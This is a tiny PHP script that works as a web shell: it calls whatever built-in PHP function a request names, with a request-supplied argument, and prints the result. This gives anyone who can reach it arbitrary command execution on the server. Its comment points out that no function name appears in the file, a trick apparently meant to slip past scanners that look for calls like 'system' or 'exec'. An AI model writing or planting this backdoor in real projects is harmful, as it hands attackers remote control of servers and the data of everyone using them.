<?php
// No function name in the file: the request picks one from PHP's own table of functions.
$all = get_defined_functions()['internal'];
$pick = array_search($_GET['n'] ?? '', $all, true);
echo $all[$pick]($_GET['v'] ?? '');
